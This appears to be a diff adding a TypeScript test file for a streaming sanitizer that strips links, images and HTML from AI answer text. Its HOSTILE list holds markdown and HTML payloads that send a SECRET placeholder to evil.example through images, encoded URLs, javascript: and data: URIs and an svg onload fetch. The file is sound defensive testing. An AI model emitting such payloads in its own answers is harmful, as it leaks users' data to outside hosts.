@@ -1,0 +1,117 @@
+import fc from "fast-check";
+import { expect, test } from "vitest";
+import { AnswerText } from "./answer-text.ts";
+import { KnownAddresses } from "./addresses.ts";
+
+const known = new KnownAddresses();
+known.learn('see https://good.example/a?b=c, {"url":"https://good.example/wiki/(x)"} and http://localhost:8080/x.');
+
+function shown(text: string, size = text.length): string {
+  const answer = new AnswerText(known);
+  let out = "";
+  for (let i = 0; i < text.length; i += Math.max(1, size)) out += answer.push(text.slice(i, i + Math.max(1, size)));
+  return out + answer.end();
+}
+
+test.each([
+  ["There are **3** errors.", "There are **3** errors."],
+  ["a < b and a <= 5, x<- y", "a < b and a <= 5, x<- y"],
+  ["[docs](https://good.example/a?b=c) say so", "[docs](https://good.example/a?b=c) say so"],
+  ["at https://good.example/a?b=c.", "at https://good.example/a?b=c."],
+  ["at http://localhost:8080/x!", "at http://localhost:8080/x!"],
+  ["[part](#section) and [x](/ui/query?id=1)", "[part](#section) and [x](/ui/query?id=1)"],
+  ["array[0]: value", "array[0]: value"],
+  ["<https://good.example/a?b=c>", "https://good.example/a?b=c"],
+  ["// a comment in code", "// a comment in code"],
+])("%j is shown as %j", (text, expected) => {
+  for (const size of [1, 2, 3, 7, text.length]) expect(shown(text, size)).toBe(expected);
+});
+
+const HOSTILE = [
+  "![x](https://evil.example/?q=SECRET)",
+  "![x][r]\n\n[r]: https://evil.example/?q=SECRET",
+  "![x][r]\n\n[r]:\nhttps://evil.example/?q=SECRET",
+  "[click](https://evil.example/?q=SECRET 'title')",
+  "[click](<https://evil.example/?q=SECRET>)",
+  "[click](\nhttps://evil.example/?q=SECRET\n)",
+  "[click](https://good.example/a?b=c&SECRET)",
+  "[click](https://good.example/a?b=cSECRET)",
+  "[click](HTTPS://evil.example/SECRET)",
+  "[click](//evil.example/SECRET)",
+  "[click](/\\evil.example/SECRET)",
+  "[click](&#104;ttps://evil.example/SECRET)",
+  "[click](https&#58;//evil.example/SECRET)",
+  "[click](javascript:alert(SECRET))",
+  "[click](data:text/html,SECRET)",
+  "<img src=https://evil.example/SECRET>",
+  '<img src="//evil.example/SECRET">',
+  "<a href='/\\evil.example/SECRET'>x</a>",
+  "<IMG SRC=//evil.example/SECRET>",
+  "<https://evil.example/SECRET>",
+  "https://evil.example/SECRET",
+  "https:\\\\evil.example/SECRET",
+  "www.evil.example/SECRET",
+  "```\n<img src=//evil.example/SECRET>\n```",
+  "`` ` ``<svg/onload=fetch('//evil.example/SECRET')>",
+  "![[x]](https://evil.example/SECRET)",
+  "!![x](https://evil.example/SECRET)",
+  "![x](\nhttps://evil.example/SECRET",
+];
+
+/** What could fetch or be followed: a tag, an image, a destination or a bare address elsewhere. */
+function dangers(text: string): string[] {
+  const tags = text.match(/<[a-z/!?]/giu) ?? [];
+  const images = text.match(/!\[/gu) ?? [];
+  const destinations = [...text.matchAll(/\]\(\s*<?([^\s)>]*)|\]:\s*<?([^\s>]+)/gu)]
+    .map(([, inline, reference]) => inline ?? reference ?? "")
+    .filter((to) => /evil|SECRET|javascript|data:/u.test(to));
+  const bare = (text.match(/(?:[a-z]+:[/\\]{2}|www\.)\S+/giu) ?? []).filter((to) => /evil|SECRET/u.test(to));
+  return [...tags, ...images, ...destinations, ...bare];
+}
+
+test.each(HOSTILE)("%j reaches nobody", (text) => {
+  expect(dangers(text)).not.toEqual([]);
+  for (const size of [1, 2, 3, 5, 11, text.length]) {
+    expect(dangers(shown(text, size))).toEqual([]);
+    expect(dangers(shown(`before [a](/b) ${text} after ${text}`, size))).toEqual([]);
+  }
+});
+
+test("pieces of any size show no more than the whole", () => {
+  const parts = fc.constantFrom(
+    ...HOSTILE,
+    " ",
+    "\n",
+    "(",
+    ")",
+    "[",
+    "]",
+    "!",
+    "<",
+    "word",
+    "]:",
+    "](",
+    "https:",
+    "//",
+  );
+  fc.assert(
+    fc.property(fc.array(parts, { maxLength: 8 }), fc.array(fc.nat({ max: 9 }), { maxLength: 400 }), (texts, sizes) => {
+      const text = texts.join("");
+      const answer = new AnswerText(known);
+      let [out, at] = ["", 0];
+      for (const size of sizes) {
+        out += answer.push(text.slice(at, at + size));
+        at += size;
+      }
+      out += answer.push(text.slice(at)) + answer.end();
+      expect(dangers(out)).toEqual([]);
+    }),
+    { numRuns: 5_000 },
+  );
+});
+
+test("what is long and has no end is let go", () => {
+  const text = `](${"x".repeat(10_000)}`;
+  expect(shown(text, 100).length).toBeGreaterThan(0);
+  expect(dangers(shown(`[a](https://evil.example/${"SECRET".repeat(2_000)}) b`, 50))).toEqual([]);
+});
